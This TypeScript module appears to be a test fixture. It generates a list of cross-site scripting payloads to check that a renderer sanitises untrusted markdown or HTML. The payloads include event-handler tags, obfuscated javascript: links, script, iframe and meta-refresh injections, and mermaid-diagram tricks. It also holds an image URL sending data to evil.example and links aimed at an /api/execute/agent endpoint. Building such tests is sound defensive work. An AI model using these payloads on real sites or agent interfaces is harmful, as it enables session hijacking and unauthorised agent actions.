/** What a hostile model, tool or person might write, each trying to run this. */
const run = 'globalThis.pwned=1'

const handlers = ['onerror', 'onload', 'onclick', 'onfocus', 'onmouseover', 'ontoggle', 'onbegin', 'onanimationstart', 'onpointerenter', 'onscroll']

const tags = [
  (on: string) => `<img src=x ${on}=${run}>`,
  (on: string) => `<svg ${on}=${run}><animate ${on}="${run}" attributeName=x></svg>`,
  (on: string) => `<details open ${on}='${run}'><summary>x</summary></details>`,
  (on: string) => `"><input autofocus ${on}=${run}>`,
  (on: string) => `<body/${on}=${run}>`,
]

const schemes = ['javascript:', 'JaVaScRiPt:', 'java\tscript:', 'java\nscript:', '\u0001javascript:', 'javascript&colon;', 'javascript&#58;', '&#x6A;avascript:', 'vbscript:', 'data:text/html,<script>', 'view-source:javascript:', 'blob:javascript:']

const links = [
  (scheme: string) => `[press](${scheme}${run})`,
  (scheme: string) => `![picture](${scheme}${run})`,
  (scheme: string) => `<${scheme}${run}>`,
  (scheme: string) => `<a href="${scheme}${run}">press</a>`,
]

const others = [
  `<script>${run}</script>`,
  `<script src="data:text/javascript,${run}"></script>`,
  `<SCRIPT/XSS>${run}</SCRIPT>`,
  `</p><script>${run}</script>`,
  `\`\`\`html\n<script>${run}</script>\n\`\`\``,
  `\`</code><script>${run}</script>\``,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<iframe src="javascript:parent.pwned=1"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<form action="javascript:${run}"><button>x</button></form>`,
  `<button formaction="javascript:${run}">x</button>`,
  `<math><mtext></p><img src=x onerror=${run}>`,
  `<style>@import 'javascript:${run}'</style>`,
  `<link rel=stylesheet href="javascript:${run}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<base href="javascript:${run}//">`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<!--><img src=x onerror=${run}>-->`,
  `<![CDATA[<script>${run}</script>]]>`,
  `[ref]: javascript:${run}\n\n[ref]`,
  `[x](<javascript:${run}> "title")`,
  `![x](https://evil.example/steal.png?${run})`,
  `[Open the report](/api/execute/agent/x?message=${run})`,
  `![Open the report](/./%61pi/execute/agent/x?message=${run})`,
  `[Open the report](/x/../api/execute/agent/x?message=${run}) and <http:/api/execute/agent/x?message=${run}>`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `\`\`\`mermaid\ngraph TD\n  A["<img src=x onerror=${run}>"] --> B[</text><script>${run}</script>]\n  click A "javascript:${run}"\n\`\`\``,
  `\`\`\`mermaid\ngraph TD\n  A --> B\n  style A fill:url(https://evil.example/x),stroke:red"/><script>${run}</script>\n\`\`\``,
  `\u202Etpircs<\u202C<script>${run}</script>`,
  `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script>`,
]

export const injections: readonly string[] = [
  ...handlers.flatMap((on) => tags.map((tag) => tag(on))),
  ...schemes.flatMap((scheme) => links.map((link) => link(scheme))),
  ...others,
]
